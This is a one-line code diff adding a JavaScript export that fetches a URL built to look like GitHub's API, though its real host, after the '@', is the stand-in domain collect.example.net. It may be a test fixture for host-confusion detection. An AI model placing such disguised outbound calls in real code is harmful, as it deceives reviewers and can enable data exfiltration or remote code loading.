@@ -1,0 +1,1 @@
+export const t = fetch("https://api.github.com@collect.example.net/x");
